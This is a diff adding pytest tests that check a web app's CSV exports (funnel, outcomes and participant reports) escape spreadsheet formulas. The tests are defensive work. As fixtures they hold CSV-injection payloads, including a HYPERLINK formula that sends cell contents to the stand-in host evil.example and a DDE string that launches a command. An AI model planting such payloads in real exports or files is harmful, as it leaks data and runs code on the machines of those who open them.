@@ -2,6 +2,7 @@
 import csv
 import io
 import re
+from datetime import datetime, timezone
 
 import pytest
 from sqlalchemy import select
@@ -103,3 +104,42 @@ def test_the_participant_list_leaves_out_contact_details_after_consent_is_withdr
     text = client.post("/reports/participants.csv", data={"csrf_token": client.csrf}).get_data(as_text=True)
     assert "Dee" in text and "07700900123" not in text and "dee@example.org" not in text
     assert "(no consent to contact)" in text
+
+
+# What a spreadsheet runs as a formula when a cell starts with it (OWASP, CSV injection).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+CSV_EXPORTS = {"reports.funnel_csv": "GET", "reports.outcomes_csv": "GET", "reports.participants_csv": "POST"}
+
+
+def test_every_csv_export_is_known_to_the_formula_test(app):
+    exports = {rule.endpoint for rule in app.url_map.iter_rules() if rule.rule.endswith(".csv")}
+    assert exports == set(CSV_EXPORTS), "a new CSV export must be added to the formula-injection test below"
+
+
+def test_no_csv_export_hands_a_spreadsheet_a_formula(app, db, client, world, login_as):
+    from tests.test_participants import signed_up
+    payloads = {"estate": '=HYPERLINK("http://evil.example/?"&A1,"Open")', "first": "+SUM(1+1)",
+                "last": "@cmd|' /C calc'!A0", "address": "\t=1+2", "postcode": "\r-3+4", "phone": "+447700900123"}
+    world["estate"].name = payloads["estate"]
+    world["door"].address_line1, world["door"].postcode = payloads["address"], payloads["postcode"]
+    db.session.commit()
+    login_as("worker")
+    today = datetime.now(timezone.utc)
+    pid = signed_up(client, world, first_name=payloads["first"], last_name=payloads["last"],
+                    phone=payloads["phone"], recorded_at=today.strftime("%Y-%m-%dT%H:%M:%SZ"))
+    assert client.post(f"/participants/{pid}/stage", data={
+        "csrf_token": client.csrf, "stage": "job_started", "occurred_on": today.date().isoformat(),
+        "hours_per_week": "16", "evidence": "payslip"}).status_code == 303
+    login_as("manager")
+    for endpoint, method in CSV_EXPORTS.items():
+        url = app.url_map.bind("localhost").build(endpoint)
+        response = (client.get(url) if method == "GET" else client.post(url, data={"csrf_token": client.csrf}))
+        assert response.status_code == 200 and response.mimetype == "text/csv", endpoint
+        cells = [cell for row in rows(response) for cell in row]
+        assert "'" + payloads["estate"] in cells, f"{endpoint}: the estate's name is there, made harmless"
+        for cell in cells:
+            assert not cell.startswith(FORMULA_STARTS), (endpoint, cell)
+    personal = client.post("/reports/participants.csv", data={"csrf_token": client.csrf})
+    cells = [cell for row in rows(personal) for cell in row]
+    for key in ("first", "last", "address", "postcode", "phone"):
+        assert "'" + payloads[key] in cells, key
